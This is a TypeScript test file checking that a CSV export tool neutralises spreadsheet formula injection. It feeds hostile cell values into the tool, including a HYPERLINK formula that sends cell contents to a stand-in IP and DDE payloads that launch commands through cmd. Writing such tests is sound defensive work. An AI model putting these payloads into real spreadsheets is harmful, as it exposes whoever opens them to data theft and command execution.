import { describe, expect, it } from 'vitest';
import { inFolder } from '../command-line.ts';
import { runHostile } from './hostile-extract.ts';

/** A spreadsheet runs a cell that starts like this (OWASP, CSV injection). */
const formulas = [
  '=HYPERLINK("http://192.0.2.1/?"&A1,"x")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '\t=1+1',
  '\uFF1D1+1',
];

/** The cells of a CSV file as a spreadsheet sees them. */
function cellsOf(text: string): readonly string[] {
  const cells = text.replace(/^\uFEFF/, '').matchAll(/(?:^|,|\r?\n)(?:"((?:[^"]|"")*)"|([^,\r\n"]*))/g);
  return [...cells].map(([, quoted, plain]) => (quoted ?? plain ?? '').replaceAll('""', '"'));
}

describe('a formula among the answers', () => {
  it('reaches no spreadsheet as a formula', () =>
    inFolder(async (folder) => {
      const run = await runHostile(
        folder,
        { header: '=cmd()', grades: formulas, answers: ['Builder'] },
        { title: '=1+1', label: '+1+1', name: '=1', grouping: '=1+1' },
      );
      expect(run.error).toBe('');
      expect(run.code).toBe(0);
      const tables = Object.entries(run.written).filter(([name]) => name.endsWith('.csv'));
      expect(tables.length).toBeGreaterThan(1);
      const cells = tables.flatMap(([, text]) => cellsOf(text));
      expect(cells.some((cell) => cell.includes('HYPERLINK'))).toBe(true);
      const running = cells.filter(
        (cell) => /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell) && Number.isNaN(Number(cell)),
      );
      expect(running).toEqual([]);
    }));
});
